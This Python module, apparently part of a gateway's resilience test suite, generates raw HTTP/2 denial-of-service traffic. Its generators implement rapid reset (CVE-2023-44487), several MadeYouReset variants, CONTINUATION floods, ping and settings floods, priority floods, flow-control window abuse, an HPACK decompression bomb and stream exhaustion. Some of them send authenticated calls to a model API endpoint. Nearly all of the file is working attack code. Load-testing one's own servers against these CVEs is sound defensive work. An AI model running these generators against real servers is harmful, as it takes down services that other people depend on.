"""What one HTTP/2 connection of an attacker sends: generators of bytes, without end unless the attack has one."""

from __future__ import annotations

import itertools
from collections.abc import Callable, Iterator

from tests.attacks.gateway_target import ATTACKER_KEY
from tests.attacks.http2_frames import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADER_TABLE_SIZE,
    HEADERS,
    INITIAL_WINDOW_SIZE,
    PING,
    PRIORITY,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    frame,
    header_block,
    opening,
    setting,
)

Pieces = Callable[[], Iterator[bytes]]
BURST = 200  # frames sent in one piece
_GET = header_block()
_POST = header_block("POST", "/v1/messages", content_type="application/json")
_POST_WITH_KEY = header_block("POST", "/v1/messages", content_type="application/json", x_api_key=ATTACKER_KEY)
_CANCEL = (8).to_bytes(4)
_ASK = b'{"model":"gemini-3.8-flash","max_tokens":9,"messages":[{"role":"user","content":"hi"}]}'
ODD = range(1, 2**31, 2)


def _bursts(frames: Iterator[bytes], number: int = BURST) -> Iterator[bytes]:
    while burst := b"".join(itertools.islice(frames, number)):
        yield burst


def rapid_reset() -> Iterator[bytes]:
    """CVE-2023-44487."""
    yield opening()
    yield from _bursts(
        frame(HEADERS, END_HEADERS | END_STREAM, stream, _GET) + frame(RST_STREAM, 0, stream, _CANCEL)
        for stream in ODD
    )


def rapid_reset_of_calls() -> Iterator[bytes]:
    """The same with a key, a body and a model behind it: every request starts work in the application."""
    yield opening()
    yield from _bursts(
        frame(HEADERS, END_HEADERS, stream, _POST_WITH_KEY)
        + frame(DATA, END_STREAM, stream, _ASK)
        + frame(RST_STREAM, 0, stream, _CANCEL)
        for stream in ODD
    )


def rapid_reset_within_the_limit() -> Iterator[bytes]:
    """A hundred streams at a time, reset a moment later, so that each reaches the application."""
    yield opening()
    streams = iter(ODD)
    while some := list(itertools.islice(streams, 100)):
        yield b"".join(frame(HEADERS, END_HEADERS, stream, _POST) for stream in some)
        yield b"".join(frame(RST_STREAM, 0, stream, _CANCEL) for stream in some)


def made_you_reset_by_window() -> Iterator[bytes]:
    """CVE-2025-8671: the server resets each stream because of an invalid WINDOW_UPDATE."""
    yield opening()
    yield from _bursts(
        frame(HEADERS, END_HEADERS, stream, _POST) + frame(WINDOW_UPDATE, 0, stream, (2**31 - 1).to_bytes(4))
        for stream in ODD
    )


def made_you_reset_by_zero_window() -> Iterator[bytes]:
    yield opening()
    yield from _bursts(
        frame(HEADERS, END_HEADERS, stream, _POST) + frame(WINDOW_UPDATE, 0, stream, bytes(4))
        for stream in ODD
    )


def made_you_reset_by_data() -> Iterator[bytes]:
    """DATA behind END_STREAM."""
    yield opening()
    yield from _bursts(
        frame(HEADERS, END_HEADERS | END_STREAM, stream, _GET) + frame(DATA, 0, stream, b"x")
        for stream in ODD
    )


def made_you_reset_by_length() -> Iterator[bytes]:
    """A body that is shorter than its content-length."""
    yield opening()
    block = header_block("POST", "/v1/messages", content_type="application/json", content_length="9")
    yield from _bursts(
        frame(HEADERS, END_HEADERS, stream, block) + frame(DATA, END_STREAM, stream, b"x") for stream in ODD
    )


def made_you_reset_by_priority() -> Iterator[bytes]:
    """A stream that depends on itself."""
    yield opening()
    yield from _bursts(
        frame(HEADERS, END_HEADERS, stream, _POST) + frame(PRIORITY, 0, stream, stream.to_bytes(4) + b"\x10")
        for stream in ODD
    )


def data_on_closed_streams() -> Iterator[bytes]:
    yield opening()
    yield frame(HEADERS, END_HEADERS | END_STREAM, 1, _GET) + frame(RST_STREAM, 0, 1, _CANCEL)
    while True:
        yield frame(DATA, 0, 1, b"x" * 100) * BURST


def resets_on_closed_streams() -> Iterator[bytes]:
    yield opening()
    yield frame(HEADERS, END_HEADERS | END_STREAM, 1, _GET) + frame(RST_STREAM, 0, 1, _CANCEL)
    while True:
        yield frame(RST_STREAM, 0, 1, _CANCEL) * BURST


def windows_on_closed_streams() -> Iterator[bytes]:
    yield opening()
    yield frame(HEADERS, END_HEADERS | END_STREAM, 1, _GET) + frame(RST_STREAM, 0, 1, _CANCEL)
    while True:
        yield frame(WINDOW_UPDATE, 0, 1, (1).to_bytes(4)) * BURST


def continuations() -> Iterator[bytes]:
    """CVE-2024-27316: a head without end."""
    yield opening() + frame(HEADERS, 0, 1, _GET)
    piece = header_block(x_filler="y" * 1000)
    while True:
        yield frame(CONTINUATION, 0, 1, piece) * 50


def empty_continuations() -> Iterator[bytes]:
    yield opening() + frame(HEADERS, 0, 1, _GET)
    while True:
        yield frame(CONTINUATION, 0, 1) * BURST


def settings_flood() -> Iterator[bytes]:
    """CVE-2019-9515: each one wants an acknowledgement."""
    yield opening()
    while True:
        yield frame(SETTINGS, 0, 0, setting(INITIAL_WINDOW_SIZE, 65_535)) * BURST


def ping_flood() -> Iterator[bytes]:
    """CVE-2019-9512."""
    yield opening()
    while True:
        yield frame(PING, 0, 0, b"12345678") * BURST


def empty_data() -> Iterator[bytes]:
    """CVE-2019-9518: frames that bring nothing, to a request that reads its body."""
    yield opening() + frame(HEADERS, END_HEADERS, 1, _POST_WITH_KEY)
    while True:
        yield frame(DATA, 0, 1) * BURST


def priority_flood() -> Iterator[bytes]:
    """CVE-2019-9513, with streams that do not exist."""
    yield opening()
    yield from _bursts(
        frame(PRIORITY, 0, stream, (stream + 2).to_bytes(4) + b"\x10") for stream in itertools.cycle(ODD)
    )


def tiny_windows() -> Iterator[bytes]:
    """CVE-2019-9511: the answer may be sent byte by byte."""
    yield opening(setting(INITIAL_WINDOW_SIZE, 1))
    for stream in ODD[:100]:
        yield frame(HEADERS, END_HEADERS, stream, _POST_WITH_KEY)
        yield frame(DATA, END_STREAM, stream, _ASK)
    while True:
        yield b"".join(frame(WINDOW_UPDATE, 0, stream, (1).to_bytes(4)) for stream in ODD[:100])


def closed_windows() -> Iterator[bytes]:
    """CVE-2019-9517: a hundred answers on each connection, none of which may be sent."""
    yield opening(setting(INITIAL_WINDOW_SIZE, 0))
    for stream in ODD[:100]:
        yield frame(HEADERS, END_HEADERS, stream, _POST_WITH_KEY)
        yield frame(DATA, END_STREAM, stream, _ASK)


def window_overflow() -> Iterator[bytes]:
    yield opening() + frame(WINDOW_UPDATE, 0, 0, (2**31 - 1).to_bytes(4)) * 2


def changing_windows() -> Iterator[bytes]:
    """The initial window changes while a hundred streams are open: each change concerns all of them."""
    yield opening()
    for stream in ODD[:100]:
        yield frame(HEADERS, END_HEADERS, stream, _POST_WITH_KEY)
    while True:
        both = (frame(SETTINGS, 0, 0, setting(INITIAL_WINDOW_SIZE, size)) for size in (0, 2**31 - 1))
        yield b"".join(both) * 50


def hpack_bomb() -> Iterator[bytes]:
    """CVE-2016-6581: one large field in the dynamic table, and thousands of references to it in each head."""
    yield opening(setting(HEADER_TABLE_SIZE, 4096))
    field = b"\x40\x01x" + _hpack_length(3_900) + b"y" * 3_900
    yield frame(HEADERS, END_HEADERS | END_STREAM, 1, _GET + field)
    bomb = _GET + b"\xbe" * 16_000  # 62, the first entry of the dynamic table: 60 MB unpacked
    for stream in ODD[1:]:
        yield frame(HEADERS, END_HEADERS | END_STREAM, stream, bomb)


def _hpack_length(number: int) -> bytes:
    """RFC 7541, 5.1: an integer with a prefix of seven bits."""
    number -= 127
    return bytes((127, number & 127 | 128, number >> 7))


def table_size_updates() -> Iterator[bytes]:
    """Each head empties and enlarges the dynamic table thousands of times."""
    yield opening()
    updates = b"\x20\x3f\xe1\x1f" * 4_000
    yield from (frame(HEADERS, END_HEADERS | END_STREAM, stream, updates + _GET) for stream in ODD)


def too_many_streams() -> Iterator[bytes]:
    """All at once, far beyond the limit that the server has announced."""
    yield opening()
    yield from _bursts(frame(HEADERS, END_HEADERS, stream, _POST) for stream in ODD[:20_000])


def unfinished_streams() -> Iterator[bytes]:
    """As many requests as are allowed, none of which ends; the server need not wait for their bodies."""
    yield opening()
    yield b"".join(frame(HEADERS, END_HEADERS, stream, _POST) for stream in ODD[:128])


def unfinished_calls() -> Iterator[bytes]:
    """The same with a key."""
    yield opening()
    yield b"".join(frame(HEADERS, END_HEADERS, stream, _POST_WITH_KEY) for stream in ODD[:128])


def unread_answers() -> Iterator[bytes]:
    """Requests at full speed; the sockets are not read, see `Attack.reads`."""
    yield opening(setting(INITIAL_WINDOW_SIZE, 2**31 - 1)) + frame(
        WINDOW_UPDATE, 0, 0, (2**31 - 1 - 65_535).to_bytes(4)
    )
    yield from _bursts(frame(HEADERS, END_HEADERS | END_STREAM, stream, _GET) for stream in ODD)
